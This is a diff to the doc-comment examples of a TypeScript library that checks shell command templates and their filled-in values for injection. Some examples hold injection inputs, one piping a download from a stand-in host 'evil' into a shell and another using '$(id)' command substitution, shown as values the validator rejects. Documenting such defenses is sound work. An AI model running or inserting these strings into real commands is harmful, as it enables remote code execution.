@@ -111,8 +111,8 @@ function isSafe(value: string): boolean {
  * ```ts
  * import { templateSegments } from "@writ/writ";
  *
- * templateSegments("cp '{{from}}' /out"); // ["cp '", "' /out"]
- * templateSegments("echo {{oops"); // ["echo {{oops"]
+ * console.log(templateSegments("cp '{{from}}' /out")); // [ "cp '", "' /out" ]
+ * console.log(templateSegments("echo {{oops")); // [ "echo {{oops" ]
  * ```
  */
 export function templateSegments(template: string): readonly string[] {
@@ -130,8 +130,8 @@ export function templateSegments(template: string): readonly string[] {
  * import { templateMatches } from "@writ/writ";
  *
  * const template = "build.sh '{{target}}'";
- * templateMatches(template, "build.sh 'x86_64-linux'"); // true
- * templateMatches(template, "build.sh 'x'; curl evil | sh; echo ''"); // false
+ * console.log(templateMatches(template, "build.sh 'x86_64-linux'")); // true
+ * console.log(templateMatches(template, "build.sh 'x'; curl evil | sh; echo ''")); // false
  * ```
  */
 export function templateMatches(template: string, actual: string): boolean {
@@ -151,8 +151,8 @@ export function templateMatches(template: string, actual: string): boolean {
  * ```ts
  * import { holeIsSafe } from "@writ/writ";
  *
- * holeIsSafe("x86_64-unknown-linux-musl"); // true
- * holeIsSafe("a$(id)b"); // false
+ * console.log(holeIsSafe("x86_64-unknown-linux-musl")); // true
+ * console.log(holeIsSafe("a$(id)b")); // false
  * ```
  */
 export function holeIsSafe(value: string): boolean {
